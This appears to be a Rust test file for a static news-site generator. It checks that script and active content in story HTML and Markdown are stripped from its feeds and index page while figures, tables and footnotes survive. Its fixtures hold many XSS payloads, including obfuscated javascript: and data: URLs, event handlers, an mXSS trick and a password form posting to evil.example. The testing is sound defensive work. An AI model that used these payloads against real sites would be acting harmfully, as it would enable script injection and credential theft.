//! Script and every other kind of active content in story HTML, Markdown
//! link and image syntax included, is removed from all three feeds and the
//! index page, while the markup a news story needs survives.

use crate::properties::{assert_harmless, scan_html, unescape};
use crate::support::*;

/// Everything a story's body may try, in Markdown and raw HTML.
const HOSTILE_BODY: &str = r##"Intro with <script>alert('inline')</script> and <img src="x.png" onerror="alert('onerror')">.

<script type="text/javascript">alert('block')</script>

[js link](javascript:alert('js')) [JS upper](JaVaScRiPt:alert('JS')) [data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [vbs](vbscript:msgbox('vbs'))

<a href="java&#x09;script:alert('tab')">tab</a> <a href="&#106;avascript:alert('entity')">entity</a> <a href=" javascript:alert('space')">space</a> <a href="data:text/html,&lt;script&gt;alert('data2')&lt;/script&gt;">data2</a>

<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+" alt="data img"> <img src="javascript:alert('imgsrc')" alt="js img">

<iframe src="https://evil.example/"></iframe>

<object data="x.swf"><param name="movie" value="x.swf"></object>

<embed src="x.swf">

<form action="https://evil.example/steal"><input name="password" type="password"><button formaction="javascript:alert('btn')">go</button><textarea>t</textarea><select><option>o</option></select></form>

<meta http-equiv="refresh" content="0;url=https://evil.example/">

<style>body { display: none }</style>

<p style="background:url(javascript:alert('css'))" onclick="alert('click')" onmouseover="alert('over')">styled</p>

<svg onload="alert('svg')"><script>alert('svg2')</script></svg>

<math><mtext><script>alert('math')</script></mtext></math>

<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">

<details open ontoggle="alert('toggle')"><summary>s</summary>d</details>

<video src="v.mp4" poster="javascript:alert('poster')" onerror="alert('video')"></video>

<frameset><frame src="https://evil.example/"></frameset>

<applet code="x.class"></applet>

<noscript><p title="</noscript><img src=x onerror=alert('mxss')>"></p></noscript>

<a href="https://example.org/" target="_blank">external</a>

<figure>
<img src="photo.jpg" srcset="photo-2x.jpg 2x, /img/photo-640.jpg 640w" alt="照片" width="640">
<figcaption>图片说明</figcaption>
</figure>

| 栏目 | 数量 |
|------|------|
| 要闻 | 3 |

> 引用的话

Some `inline code` and:

```rust
fn main() { println!("<script>"); }
```

## 小标题

- one
- two

1. first
2. second

~~struck~~ *em* **strong**

A footnote reference[^1].

[^1]: The footnote text.

<SCRIPT SRC=//evil.example/x.js></SCRIPT>
"##;

/// Script and style bodies go with their elements: none of their text is
/// left behind in a story body.
#[track_caller]
fn assert_no_script_text(body_html: &str, context: &str) {
    let (_, text) = scan_html(body_html);
    assert!(!text.contains("alert("), "{context}: script text survived as text: {text}");
    assert!(!text.contains("display: none"), "{context}: style text survived: {text}");
}

/// Every kind of active content in a Markdown story is removed from the
/// content of all three feeds (and from the index page), while the markup a
/// news story needs — figures with captions, images with `srcset`, tables,
/// quotes, code, lists, footnotes, links — survives, with relative URLs
/// made absolute and `rel="noopener noreferrer"` on links.
#[test]
fn story_html_is_sanitised_in_every_feed_and_news_markup_survives() {
    let t = Site::new("language = \"zh-CN\"");
    let front = format!(
        "+++\ntitle = {}\nkicker = {}\nsubtitle = {}\nsummary = {}\ndate = {DATE}\nlang = {}\ntags = [{}]\nauthor = {}\n+++\n\n",
        toml_str("Hostile <script>alert('title')</script>"),
        toml_str("<img src=x onerror=alert('kicker')>"),
        toml_str("<iframe src=//evil.example></iframe>"),
        toml_str("<script>alert('summary')</script> & more"),
        toml_str("zh\"><script>alert('lang')</script>"),
        toml_str("<script>alert('tag')</script>"),
        toml_str("<b onmouseover=alert('author')>A</b>"),
    );
    t.write("hostile.md", format!("{front}{HOSTILE_BODY}"));
    t.build().assert_code(0);
    let items = t.items();
    let title = "Hostile <script>alert('title')</script>";
    for item in items.by_title(title) {
        let context = format!("{} content", item.format);
        assert_harmless(&item.content, &context, true);
        let html = &item.content;
        let body = html.split_once("</header>").map_or(html.as_str(), |(_, body)| body);
        assert_no_script_text(body, &context);
        // What a news story needs is still there.
        for keep in [
            "<figure>",
            "<figcaption>图片说明</figcaption>",
            "<table>",
            "<th>栏目</th>",
            "<td>要闻</td>",
            "<blockquote>",
            "<code>inline code</code>",
            "<pre><code",
            "&lt;script&gt;", // code shown as text
            "<h2>小标题</h2>",
            "<ul>",
            "<ol>",
            "<li>first</li>",
            "<del>struck</del>",
            "<em>em</em>",
            "<strong>strong</strong>",
            "class=\"footnote-reference\"",
            "class=\"footnote-definition\"",
            "The footnote text.",
            "alt=\"照片\"",
            "src=\"https://news.example.com/hostile/photo.jpg\"",
            "srcset=\"https://news.example.com/hostile/photo-2x.jpg 2x, https://news.example.com/img/photo-640.jpg 640w\"",
            "href=\"https://example.org/\"",
            "rel=\"noopener noreferrer\"",
        ] {
            assert!(html.contains(keep), "{context}: {keep:?} is missing from\n{html}");
        }
        assert!(!html.contains("target="), "{context}: target= survived");
        // The headline frame is escaped text, not markup.
        assert!(
            html.contains("<p class=\"kicker\">&lt;img src=x onerror=alert(&#39;kicker&#39;)&gt;</p>"),
            "{context}: {html}"
        );
        assert!(!html.contains("Hostile &lt;script&gt;"), "{context}: the headline is not repeated: {html}");
        // Links the sanitiser refused are left as text, never as javascript:/data:.
        for word in ["js link", "JS upper", "data link", "external"] {
            assert!(html.contains(word), "{context}: the link text {word:?} is gone: {html}");
        }
        // A summary is text: the RSS description is escaped HTML of it.
        assert!(!item.summary.to_ascii_lowercase().contains("<script") || item.format != "rss");
    }
    // The raw XML never carries an unescaped element from story text.
    for file in ["rss.xml", "atom.xml"] {
        let raw = std::fs::read_to_string(t.out().join(file)).expect("read");
        assert!(!raw.to_ascii_lowercase().contains("<script"), "{file} carries a raw <script");
        assert!(!raw.to_ascii_lowercase().contains("<iframe"), "{file} carries a raw <iframe");
    }
    // RSS description is HTML: the summary's markup is escaped there.
    let rss = &items.by_title(title)[0];
    assert!(rss.summary.contains("&lt;script&gt;"), "RSS description must escape the summary: {}", rss.summary);
    // The index page shows the same fields (kicker, headline, summary, lang).
    let index = std::fs::read_to_string(t.out().join("index.html")).expect("index.html");
    let (tags, text) = scan_html(&index);
    let allowed = [
        "html", "head", "meta", "title", "link", "style", "body", "header", "h1", "p", "nav", "h2", "ul", "li", "a",
        "main", "article", "h3", "time", "span",
    ];
    for tag in &tags {
        assert!(allowed.contains(&tag.name.as_str()), "index.html: unexpected <{}>", tag.name);
        assert!(tag.attrs.iter().all(|(a, _)| !a.starts_with("on")), "index.html: event handler on <{}>", tag.name);
        for (attr, value) in &tag.attrs {
            if attr == "href" {
                let v = unescape(value).to_ascii_lowercase();
                assert!(!v.starts_with("javascript:") && !v.starts_with("data:"), "index.html href {v}");
            }
        }
    }
    assert_eq!(tags.iter().filter(|t| t.name == "style").count(), 1, "only the page's own style block");
    assert!(unescape(&text).contains("<script>alert('title')"), "the title is shown as text on the index page");
}

/// Markdown that tries to smuggle markup through link and image syntax,
/// autolinks, reference definitions and HTML entities gets the same.
#[test]
fn markdown_link_and_image_syntax_cannot_smuggle_script() {
    let t = Site::new("");
    let body = r#"[a](javascript:alert(1)) [b]( javascript:alert(2) "t") [c](<javascript:alert(3)>) ![d](javascript:alert(4))
![e](data:image/png;base64,iVBORw0KGgo=) <javascript:alert(5)> [f][ref] [g](&#x6A;avascript:alert(6))
[h](java%0ascript:alert(7)) [i](//evil.example/x) [j](./ok.html "x\" onmouseover=\"alert(8)")

[ref]: javascript:alert(9)
"#;
    t.write("links.md", story("Links", DATE, body));
    t.build().assert_code(0);
    for item in t.items().by_title("Links") {
        assert_harmless(&item.content, &format!("{} content", item.format), true);
        assert!(!item.content.to_ascii_lowercase().contains("href=\"javascript:"), "{}", item.content);
        assert!(item.content.contains("href=\"https://news.example.com/links/ok.html\""), "{}", item.content);
    }
}
